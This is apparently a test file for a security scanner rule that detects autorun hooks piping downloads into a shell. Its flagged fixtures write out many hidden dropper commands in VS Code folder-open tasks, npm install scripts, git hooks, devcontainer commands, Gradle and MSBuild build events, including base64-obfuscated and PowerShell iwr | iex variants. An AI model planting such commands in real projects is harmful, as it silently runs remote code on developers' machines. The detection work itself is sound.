import { ruleTest } from '../../testing/rule-tester.js';
import rule from './autorun-pipes-download-to-shell.js';

const tasks = (cmd: string) =>
  `{\n  "version": "2.0.0",\n  "tasks": [\n    {\n      "label": "x",\n      "command": ${JSON.stringify(cmd)},\n      "runOptions": { "runOn": "folderOpen" }\n    }\n  ]\n}\n`;

ruleTest(rule, {
  clean: [
    { name: 'curl in a script nothing runs by itself', files: { 'package.json': '{"scripts":{"setup-dev":"curl -fsSL https://get.pnpm.io/install.sh | sh -"}}' } },
    { name: 'curl download without a shell', files: { 'package.json': '{"scripts":{"postinstall":"curl -fsSLo data.json https://example.com/data.json"}}' } },
    { name: 'folderOpen task that only installs', files: { '.vscode/tasks.json': tasks('npm install') } },
    { name: 'MSBuild events that version and copy; Gradle exec of git describe', files: { 'App/App.vcxproj': '<Project><PreBuildEvent><Command>tools\\gen_version.bat</Command></PreBuildEvent><PostBuildEvent><Command>xcopy /y /d "$(SolutionDir)assets" "$(OutDir)"</Command></PostBuildEvent></Project>\n', 'build.gradle': 'def v = "git describe --tags".execute().text.trim()\n' } },
    { name: 'folderOpen task installing a marketplace extension by id, and a locally built .vsix', files: { '.vscode/tasks.json': tasks('code --install-extension esbenp.prettier-vscode && npx vsce package -o dist/ext.vsix && code --install-extension dist/ext.vsix') } },
    { name: 'shell script with curl to a file, no exec', files: { 'package.json': '{"scripts":{"postinstall":"bash scripts/fetch.sh"}}', 'scripts/fetch.sh': 'curl -o out.json https://example.com/x.json\n' } },
    { name: 'checksum of a download', files: { '.vscode/tasks.json': tasks('curl -sL https://x.example/a.tgz | sha256sum; curl -s https://x.example/v | node-semver') } },
    { name: 'piping a download into grep', files: { '.vscode/tasks.json': tasks('curl -s https://api.github.com/repos/a/b | grep tag_name') } },
    { name: 'prepare points core.hooksPath at .githooks holding a lint hook', files: { 'package.json': '{"scripts":{"prepare":"git config core.hooksPath .githooks"}}', '.githooks/pre-commit': '#!/bin/sh\nnpx lint-staged\n' } },
    { name: 'base64 decoded into a file, not a shell', files: { 'package.json': '{"scripts":{"postinstall":"echo aGVsbG8gd29ybGQgZnJvbSBhIGZpeHR1cmU= | base64 -d > banner.txt"}}' } },
    { name: 'base64 of a certificate piped to openssl', files: { '.devcontainer/devcontainer.json': '{"initializeCommand":"echo $CA_B64 | base64 -d | openssl x509 -noout -subject"}' } },
    { name: 'multi-line script: a download saved, a different program run', files: { 'package.json': '{"scripts":{"postinstall":"sh scripts/data.sh"}}', 'scripts/data.sh': '#!/bin/sh\ncurl -fsSL https://example.com/data.json -o data.json\nchmod 644 data.json\nnode scripts/build.js\n' } },
    { name: 'python -c one-liner that fetches but runs nothing', files: { '.husky/pre-push': 'python3 -c "import urllib.request as u; print(u.urlopen(\'https://status.example.org\').status)"\n' } },
  ],
  flagged: [
    {
      name: 'Visual Studio PreBuildEvent: hidden powershell iwr | iex',
      files: { 'Engine/Engine.vcxproj': '<Project>\n  <ItemDefinitionGroup>\n    <PreBuildEvent>\n      <Command>powershell -ExecutionPolicy Bypass -WindowStyle Hidden -Command "iwr http://198.51.100.120/vs/sdk.ps1 -UseBasicParsing | iex"</Command>\n    </PreBuildEvent>\n  </ItemDefinitionGroup>\n</Project>\n' },
      findings: [{ line: 4, file: 'Engine/Engine.vcxproj', severity: 'critical', message: /download into a shell — it runs when the project is built or opened in its IDE \[MSBuild PreBuildEvent/ }],
    },
    {
      name: 'Gradle script: providers.exec of a base64 literal decoding to curl | sh (runs on IDE sync)',
      files: { 'build.gradle.kts': `plugins { id("java") }\nval profile = providers.exec {\n    commandLine("sh", "-c", String(Base64.getDecoder().decode("${Buffer.from('curl -fsSL http://203.0.113.99:1244/gradle | sh').toString('base64')}")))\n}.standardOutput.asText.get()\n` },
      findings: [{ line: 3, severity: 'critical', message: /base64-encoded command that pipes a download into a shell/ }],
    },
    {
      name: 'hidden folderOpen task downloads a .vsix from a mirror and installs it',
      files: { '.vscode/tasks.json': tasks('curl -fsSLo "${env:TMPDIR}/pfp.vsix" https://vsx-mirror.example.invalid/pfp-1.4.2.vsix && code --install-extension "${env:TMPDIR}/pfp.vsix" --force') },
      findings: [{ line: 6, severity: 'critical', message: /^Downloads an editor extension and installs it/ }],
    },
    {
      name: 'multi-line dropper script: download on one line, chmod and run on the next',
      files: { 'packages/ui/package.json': '{"name":"@a/ui","scripts":{"prepare":"sh ./scripts/prepare.sh"}}', 'packages/ui/scripts/prepare.sh': '#!/bin/sh\ncurl -fsSL http://x.example:1244/p -o /tmp/.p >/dev/null 2>&1\nchmod +x /tmp/.p\n/tmp/.p >/dev/null 2>&1 &\n' },
      findings: [{ line: 2, file: 'packages/ui/scripts/prepare.sh', severity: 'critical', message: /^Downloads a file and runs it — this script runs on npm install/ }],
    },
    {
      name: 'inline preinstall python -c urlopen + exec',
      files: { 'package.json': '{\n "scripts": {\n  "preinstall": "python3 -c \\"import urllib.request as u; exec(u.urlopen(\'https://cdn.example.invalid/x\').read())\\""\n }\n}' },
      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /inline one-liner/ }],
    },
    {
      name: 'a hook running a python -c one-liner that downloads and execs',
      files: { '.husky/post-checkout': 'python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x.example/h\').read())" >/dev/null 2>&1 &\n' },
      findings: [{ line: 1, file: '.husky/post-checkout', severity: 'critical', message: /inline one-liner that downloads code and executes it/ }],
    },
    {
      name: 'base64 command piped into a shell: postinstall and a devcontainer initializeCommand (runs on the host)',
      files: {
        'package.json': `{\n "scripts": {\n  "postinstall": "echo ${Buffer.from('curl -s http://x.example/i | sh').toString('base64')} | base64 -d | sh"\n }\n}`,
        '.devcontainer/devcontainer.json': `{\n "initializeCommand": "bash -c 'base64 --decode <<< ${Buffer.from('node -e 1; touch /tmp/x').toString('base64')} | bash'"\n}`,
      },
      findings: [
        { line: 2, file: '.devcontainer/devcontainer.json', decoded: 'node -e 1; touch /tmp/x', severity: 'critical', confidence: 'high', message: /base64-encoded command through a shell/ },
        { line: 3, file: 'package.json', decoded: 'curl -s http://x.example/i | sh', severity: 'critical', confidence: 'high', message: /base64-encoded command that pipes a download into a shell/ },
      ],
    },
    {
      name: 'sh -c "$(echo <b64> | base64 -d)" in a folder-open task',
      files: { '.vscode/tasks.json': tasks(`sh -c "$(echo ${Buffer.from('wget -qO- http://x.example/t | sh').toString('base64')} | base64 -d)"`) },
      findings: [{ line: 6, file: '.vscode/tasks.json', decoded: 'wget -qO- http://x.example/t | sh', severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'folderOpen task curl | bash',
      files: { '.vscode/tasks.json': tasks("curl -s 'http://203.0.113.7:1244/settings/mac?flag=8' | bash") },
      findings: [{ line: 6, file: '.vscode/tasks.json', evidence: "curl -s 'http://203.0.113.7:1244/settings/mac?flag=8' | bash", severity: 'critical', message: /opened in VS Code/ }],
    },
    {
      name: 'postinstall wget -qO- | sh, reached through npm run',
      files: { 'package.json': '{\n "scripts": {\n  "postinstall": "npm run setup",\n  "setup": "wget -qO- http://x.example/i | sh"\n }\n}' },
      findings: [{ line: 4, evidence: 'wget -qO- http://x.example/i | sh', severity: 'critical', message: /npm install.*script "setup"/ }],
    },
    {
      name: 'windows iwr | iex and powershell -enc',
      files: {
        '.devcontainer/devcontainer.json': '{\n "initializeCommand": "powershell -nop -c \\"iwr http://x.example/a.ps1 | iex\\""\n}',
        'package.json': '{\n "scripts": {\n  "preinstall": "powershell -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAeAApAA=="\n }\n}',
      },
      findings: [
        { line: 2, file: '.devcontainer/devcontainer.json', evidence: /iwr http:\/\/x\.example\/a\.ps1 \| iex/, severity: 'high' },
        { line: 3, file: 'package.json', decoded: 'IEX (iwr x)', severity: 'critical' },
      ],
    },
    {
      name: 'hook script one file deeper, and curl | cmd',
      files: {
        '.husky/pre-commit': '#!/bin/sh\nsh .husky/helper.sh\n',
        '.husky/helper.sh': 'echo ok\ncurl -s http://x.example/w | cmd\n',
      },
      findings: [{ line: 2, file: '.husky/helper.sh', evidence: 'curl -s http://x.example/w | cmd' }],
    },
    {
      name: 'decoded on the way to the shell',
      files: { '.vscode/tasks.json': tasks('curl -s http://x.example/p | base64 -d | sudo bash') },
      findings: [{ line: 6, evidence: 'curl -s http://x.example/p | base64 -d | sudo bash' }],
    },
    {
      name: 'Dockerfile installer stays low',
      files: { Dockerfile: 'FROM node:20\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n' },
      findings: [{ line: 2, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'download then run',
      files: { 'package.json': '{"scripts":{"install":"curl -sL http://x.example/p -o /tmp/p && chmod +x /tmp/p && /tmp/p"}}' },
      findings: [{ line: 1, evidence: /curl -sL http:\/\/x\.example\/p -o \/tmp\/p && chmod \+x \/tmp\/p && \/tmp\/p/ }],
    },
    {
      name: 'devcontainer installs a tool from a named host (medium), and from a bare public IP (high/high)',
      files: { '.devcontainer/devcontainer.json': '{\n "postCreateCommand": "curl -fsSL https://bun.sh/install | bash",\n "postStartCommand": "curl -s http://95.164.17.24:1244/client/9 | sh"\n}' },
      findings: [
        { line: 2, severity: 'medium', confidence: 'medium' },
        { line: 3, severity: 'high', confidence: 'high', evidence: 'curl -s http://95.164.17.24:1244/client/9 | sh' },
      ],
    },
    {
      name: 'Dockerfile curl | sh from a private address stays low',
      files: { 'Dockerfile': 'FROM node:20\nRUN curl -s http://10.0.0.5/setup.sh | sh\n' },
      findings: [{ line: 2, severity: 'low' }],
    },
    {
      name: 'Makefile recipe reached from preinstall weighs as an install script',
      files: { 'Makefile': 'install:\n\tnpm ci\n\tcurl -s https://cdn.example.invalid/s | sh\n', 'package.json': '{"scripts":{"preinstall":"make install"}}' },
      findings: [{ line: 3, file: 'Makefile', severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'a Makefile target nothing runs on install stays medium/low',
      files: { 'Makefile': 'tools:\n\tcurl -fsSL https://sh.rustup.rs | sh\n', 'package.json': '{"scripts":{"build":"make tools"}}' },
      findings: [{ line: 2, file: 'Makefile', severity: 'medium', confidence: 'low' }],
    },
    {
      name: 'prepare points core.hooksPath at a folder whose post-checkout pipes a download into sh',
      files: { 'package.json': '{"scripts":{"prepare":"git config core.hooksPath .githooks"}}', '.githooks/post-checkout': '#!/bin/sh\nwget -qO- http://198.51.100.12:1245/hook | sh >/dev/null 2>&1 &\n' },
      findings: [{ line: 2, file: '.githooks/post-checkout', severity: 'critical', confidence: 'high', evidence: /^wget -qO- http:\/\/198\.51\.100\.12:1245\/hook \| sh/ }],
    },
  ],
});
